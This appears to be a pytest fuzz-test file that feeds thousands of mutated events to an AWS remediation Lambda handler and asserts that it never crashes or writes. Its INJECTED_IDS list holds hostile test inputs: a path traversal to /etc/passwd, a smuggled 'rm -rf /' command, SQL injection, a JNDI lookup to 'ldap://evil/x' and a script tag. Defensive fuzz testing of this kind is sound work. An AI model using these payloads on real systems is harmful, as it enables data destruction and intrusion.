"""Bad input: thousands of malformed and mutated real-shaped events through the handler.

Every resource the events name exists and is compliant, so no event, however mutated, has a reason
to write: a write would mean the handler acted on the wrong resource, account or rule. Expected:
no exception, no internal error, exactly one final JSON log line per event, and zero AWS writes.
"""

from __future__ import annotations

import copy
import json
import random
from collections import Counter
from collections.abc import Callable
from typing import Any

import boto3
import pytest
from conftest import ACCOUNT, REGION, FakeContext, automation_event, compliance_event, rule_name
from faults import inject_error
from lambda_scenarios import TRAIL_BUCKET, new_vpc
from remediation.handler import lambda_handler

from tests.safety.figures import record, scale

EVENTS = scale("fuzz_events", 5000)
SEED = 20261127
OTHER_ACCOUNT = "999999999999"
BUCKET = "governance-test-bucket"

WRONG_VALUES: list[Any] = [
    None, 0, -1, 2**63, 1e308, float("nan"), True, False, "", " ", [], {}, [None], {"": None},
    "x" * 100_000, "ǅ𝔘ñ\u202e\u0000\ud7ff😀", "\n\r\t", {"nested": {"deeper": [{"deepest": "x" * 1000}]}},
]
INJECTED_IDS = [
    "../../etc/passwd", "sg-12345678; rm -rf /", "' OR 1=1 --", "${jndi:ldap://evil/x}", "<script>alert(1)</script>",
    f"{BUCKET}\n", f"{BUCKET}\u0000", "sg-0123456789abcdef0 ", " vpc-12345678", "*", "%00", "arn:aws:s3:::*", "a" * 100_000,
    "ẞucket-ünïcode", "vpc-../../", "main-trail/../../x", "main-trail;DROP TABLE trails", "",
]
"""Ids that are malformed for every resource type: the event must be ignored without a call."""
LOOKALIKE_IDS = [
    BUCKET.upper(), "sg-" + "f" * 17 + "0", f"arn:aws:cloudtrail:{REGION}:{OTHER_ACCOUNT}:trail/main-trail", OTHER_ACCOUNT, f"{ACCOUNT}0",
    "no-such-bucket", "sg-0123456789abcdef0", "vpc-0123456789abcdef0", "no-such-trail",
]
"""Well-formed ids of resources that do not exist or are not this account's: read, then failed or ignored."""
MUST_BE_IGNORED = {"not an object", "other account", "other region", "unmanaged rule", "injected id", "other source", "qualifier mismatch"}


def compliant_world() -> list[dict[str, Any]]:
    """Compliant resources for every fixer, and a real-shaped NON_COMPLIANT event for each."""
    s3, s3control, ec2, cloudtrail = boto3.client("s3"), boto3.client("s3control"), boto3.client("ec2"), boto3.client("cloudtrail")
    s3.create_bucket(Bucket=BUCKET)
    s3.put_bucket_encryption(Bucket=BUCKET, ServerSideEncryptionConfiguration={"Rules": [{"ApplyServerSideEncryptionByDefault": {"SSEAlgorithm": "AES256"}}]})
    all_on = dict.fromkeys(("BlockPublicAcls", "IgnorePublicAcls", "BlockPublicPolicy", "RestrictPublicBuckets"), True)
    s3.put_public_access_block(Bucket=BUCKET, PublicAccessBlockConfiguration=all_on)
    s3control.put_public_access_block(AccountId=ACCOUNT, PublicAccessBlockConfiguration=all_on)
    vpc = new_vpc()
    group = ec2.create_security_group(GroupName="closed", Description="closed", VpcId=vpc)["GroupId"]
    ec2.authorize_security_group_ingress(GroupId=group, IpPermissions=[{"IpProtocol": "tcp", "FromPort": 22, "ToPort": 22, "IpRanges": [{"CidrIp": "10.0.0.0/8"}]}])
    ec2.create_flow_logs(
        ResourceIds=[vpc], ResourceType="VPC", TrafficType="ALL", LogDestinationType="cloud-watch-logs",
        LogGroupName="/existing", DeliverLogsPermissionArn=f"arn:aws:iam::{ACCOUNT}:role/existing",
    )
    s3.create_bucket(Bucket=TRAIL_BUCKET)
    trail_arn = cloudtrail.create_trail(Name="main-trail", S3BucketName=TRAIL_BUCKET, IsMultiRegionTrail=True, EnableLogFileValidation=True)["TrailARN"]
    cloudtrail.start_logging(Name="main-trail")
    # moto has no SSM Automation; the execution read answers "not found", a permanent error.
    inject_error("ssm", "GetAutomationExecution", "AutomationExecutionNotFoundException", 400)
    return [
        compliance_event(rule_name("s3-bucket-encryption"), "AWS::S3::Bucket", BUCKET),
        compliance_event(rule_name("s3-bucket-public-access"), "AWS::S3::Bucket", BUCKET, with_old_result=True),
        compliance_event(rule_name("s3-account-public-access"), "AWS::::Account", ACCOUNT),
        compliance_event(rule_name("restricted-admin-ports"), "AWS::EC2::SecurityGroup", group),
        compliance_event("securityhub-restricted-ssh-a1b2c3", "AWS::EC2::SecurityGroup", group),
        compliance_event(rule_name("vpc-flow-logs"), "AWS::EC2::VPC", vpc),
        compliance_event(rule_name("cloudtrail-multi-region"), "AWS::::Account", ACCOUNT),
        compliance_event(rule_name("cloudtrail-multi-region"), "AWS::CloudTrail::Trail", trail_arn),
        compliance_event(rule_name("cloudtrail-log-validation"), "AWS::CloudTrail::Trail", "main-trail"),
        compliance_event(rule_name("cloudtrail-log-validation"), "AWS::CloudTrail::Trail", trail_arn),
        automation_event("AWSConfigRemediation-EnableCloudTrailLogFileValidation", "Success"),
        automation_event("AWSConfigRemediation-CreateCloudTrailMultiRegionTrail", "InProgress"),
    ]


def _paths(value: Any, prefix: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    """Every path to a field of a JSON value."""
    found: list[tuple[Any, ...]] = []
    items = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for key, child in items:
        found.append((*prefix, key))
        found += _paths(child, (*prefix, key))
    return found


def _parent(event: Any, path: tuple[Any, ...]) -> Any:
    for key in path[:-1]:
        event = event[key]
    return event


def _set_everywhere(event: dict[str, Any], names: tuple[str, ...], value: Any) -> None:
    """Set a field wherever it occurs (detail and qualifier), so the event stays self-consistent."""
    for path in _paths(event):
        if path[-1] in names:
            _parent(event, path)[path[-1]] = value


Mutation = Callable[[random.Random, dict[str, Any]], Any]


def _delete_field(rng: random.Random, event: dict[str, Any]) -> Any:
    path = rng.choice(_paths(event))
    del _parent(event, path)[path[-1]]
    return event


def _wrong_value(rng: random.Random, event: dict[str, Any]) -> Any:
    path = rng.choice(_paths(event))
    _parent(event, path)[path[-1]] = copy.deepcopy(rng.choice(WRONG_VALUES))
    return event


def _extra_field(rng: random.Random, event: dict[str, Any]) -> Any:
    containers = [path for path in _paths(event) if isinstance(_parent(event, (*path, None)), dict)]
    target = _parent(event, (*rng.choice(containers), None)) if containers else event
    target[rng.choice(["__proto__", "constructor", "ÿ", "x" * 300, "$where"])] = copy.deepcopy(rng.choice(WRONG_VALUES))
    return event


def _not_an_object(rng: random.Random, event: dict[str, Any]) -> Any:
    return rng.choice([None, "", "{}", json.dumps(event), [event], 42, b"bytes", ["aws.config"]])


def _other_account(rng: random.Random, event: dict[str, Any]) -> Any:
    choice = rng.choice(["both", "envelope", "detail"])
    if choice == "both" or event["source"] != "aws.config":
        _set_everywhere(event, ("account", "awsAccountId"), OTHER_ACCOUNT)
        if rng.random() < 0.5 and event["detail"].get("resourceType") == "AWS::::Account":
            _set_everywhere(event, ("resourceId",), OTHER_ACCOUNT)
    elif choice == "envelope":
        event["account"] = OTHER_ACCOUNT
    else:
        event["detail"]["awsAccountId"] = OTHER_ACCOUNT
    return event


def _other_region(rng: random.Random, event: dict[str, Any]) -> Any:
    _set_everywhere(event, ("region", "awsRegion"), rng.choice(["eu-west-1", "us-east-2", "", "US-EAST-1", "us-east-1 "]))
    return event


def _unmanaged_rule(rng: random.Random, event: dict[str, Any]) -> Any:
    name = rng.choice(["securityhub-restricted-ssh-", "GOVERNANCE-S3-BUCKET-ENCRYPTION", "governance-s3-bucket-encryption ", "other-rule", "governance-", "securityhub-"])
    _set_everywhere(event, ("configRuleName",), name)
    return event


def _injected_id(rng: random.Random, event: dict[str, Any]) -> Any:
    _set_everywhere(event, ("resourceId",), rng.choice(INJECTED_IDS))
    return event


def _lookalike_id(rng: random.Random, event: dict[str, Any]) -> Any:
    _set_everywhere(event, ("resourceId",), rng.choice(LOOKALIKE_IDS))
    return event


def _other_source(rng: random.Random, event: dict[str, Any]) -> Any:
    event["source"], event["detail-type"] = rng.choice([("aws.config", "Config Configuration Item Change"), ("aws.s3", "Object Created"), ("governance.remediation", "Governance Remediation Result"), ("AWS.CONFIG", "Config Rules Compliance Change")])
    return event


def _qualifier_mismatch(rng: random.Random, event: dict[str, Any]) -> Any:
    qualifier = event["detail"]["newEvaluationResult"]["evaluationResultIdentifier"]["evaluationResultQualifier"]
    field = rng.choice(["configRuleName", "resourceType", "resourceId"])
    value = rng.choice(["other", "AWS::S3::Bucket", "sg-0123456789abcdef0", rule_name("vpc-flow-logs")])
    qualifier[field] = value if value != qualifier.get(field) else value + "x"
    return event


def _compliance_type(rng: random.Random, event: dict[str, Any]) -> Any:
    event["detail"]["newEvaluationResult"]["complianceType"] = rng.choice(["COMPLIANT", "NOT_APPLICABLE", "INSUFFICIENT_DATA", "non_compliant", None, 1, ["NON_COMPLIANT"]])
    return event


def _other_resource_type(rng: random.Random, event: dict[str, Any]) -> Any:
    _set_everywhere(event, ("resourceType",), rng.choice(["AWS::S3::Bucket", "AWS::EC2::VPC", "AWS::::Account", "AWS::IAM::User", "AWS::CloudTrail::Trail", "aws::s3::bucket"]))
    return event


MUTATIONS: dict[str, Mutation] = {
    "delete field": _delete_field,
    "wrong type or value": _wrong_value,
    "extra field": _extra_field,
    "not an object": _not_an_object,
    "other account": _other_account,
    "other region": _other_region,
    "unmanaged rule": _unmanaged_rule,
    "injected id": _injected_id,
    "lookalike id": _lookalike_id,
    "other source": _other_source,
    "qualifier mismatch": _qualifier_mismatch,
    "compliance type": _compliance_type,
    "other resource type": _other_resource_type,
}
COMPLIANCE_ONLY = {"unmanaged rule", "injected id", "lookalike id", "qualifier mismatch", "compliance type", "other resource type"}


def mutated_events(seed_events: list[dict[str, Any]], count: int, seed: int = SEED) -> list[tuple[str, int, Any]]:
    """``count`` events: a real-shaped event with one named mutation, and how many random ones follow it."""
    rng = random.Random(seed)
    events: list[tuple[str, int, Any]] = []
    while len(events) < count:
        event = copy.deepcopy(rng.choice(seed_events))
        is_compliance = event["source"] == "aws.config"
        names = [name for name in MUTATIONS if is_compliance or name not in COMPLIANCE_ONLY]
        name = rng.choice(names)
        mutated = MUTATIONS[name](rng, event)
        extra = rng.choice([0, 0, 1, 2])
        for _ in range(extra):
            if not isinstance(mutated, dict) or not _paths(mutated):
                break
            mutated = MUTATIONS[rng.choice(["delete field", "wrong type or value", "extra field"])](rng, mutated)
        mutated_id = mutated.get("id") if isinstance(mutated, dict) else None
        if isinstance(mutated, dict) and isinstance(mutated_id, str):
            mutated["id"] = f"{mutated_id[:8]}-{len(events):06d}"
        events.append((name, extra, mutated))
    return events


def test_mutated_events_never_raise_and_never_write(requests, capsys) -> None:
    seeds = compliant_world()
    requests.clear()
    decisions: Counter[str] = Counter()
    unexpected: list[str] = []
    for name, extra, event in mutated_events(seeds, EVENTS):
        try:
            result = lambda_handler(event, FakeContext())
        except Exception as error:  # the property under test: nothing escapes
            unexpected.append(f"{name}: {type(error).__name__}: {error}"[:300])
            continue
        lines = capsys.readouterr().out.splitlines()
        records = [json.loads(line) for line in lines]
        assert len(records) == 1 and records[0]["final"] is True, (name, lines[:3])
        assert records[0]["recordId"] == result["recordId"]
        assert "internal error" not in result["reason"], (name, result["reason"])
        decisions[result["decision"] if result["engine"] == "lambda" else f"SSM outcome {result['decision']}"] += 1
        # SSM outcomes are "remediated" when the runbook succeeded; the Lambda itself must never act.
        assert result["engine"] == "ssm" or result["decision"] not in ("remediated", "dry_run"), (name, result["reason"])
        if name in MUST_BE_IGNORED and not extra:
            assert result["decision"] == "ignored", (name, result["decision"], result["reason"][:200], result["rule"], str(result["resourceId"])[:100])
            assert result["apiCalls"] == [], "an ignored event makes no call"
    assert unexpected == []
    assert requests.writes() == [], "no mutated event wrote anything"
    assert decisions["ignored"] > EVENTS // 2
    record("fuzz", "events", EVENTS)
    record("fuzz", "unexpected exceptions", len(unexpected))
    record("fuzz", "writes", len(requests.writes()))
    record("fuzz", "decisions", dict(decisions))
    record("fuzz", "aws requests (reads and result events)", len(requests.sent))


def test_the_unmutated_seed_events_reach_their_fixers(requests) -> None:
    # A self-check: the seeds are valid, so the fuzz above starts from events the handler acts on.
    for event in compliant_world():
        result = lambda_handler(event, FakeContext())
        if event["source"] == "aws.config":
            assert result["decision"] == "already_compliant", result["reason"]
        else:
            assert result["engine"] == "ssm" or result["decision"] == "ignored", result["reason"]
    assert requests.writes() == []


@pytest.mark.parametrize(
    "arn",
    [None, "", "arn:aws:lambda:us-east-1:123:function:x", "arn:aws:iam::123456789012:role/x", f"arn:aws:lambda:{REGION}:{ACCOUNT}:function:f\n", "x" * 10_000],
)
def test_a_context_without_a_function_arn_is_ignored(arn: str | None, requests) -> None:
    class Context:
        invoked_function_arn = arn
        aws_request_id = None

    result = lambda_handler(compliance_event(rule_name("s3-account-public-access"), "AWS::::Account", ACCOUNT), Context())
    assert result["decision"] == "ignored" and result["apiCalls"] == []
    assert requests.writes() == []
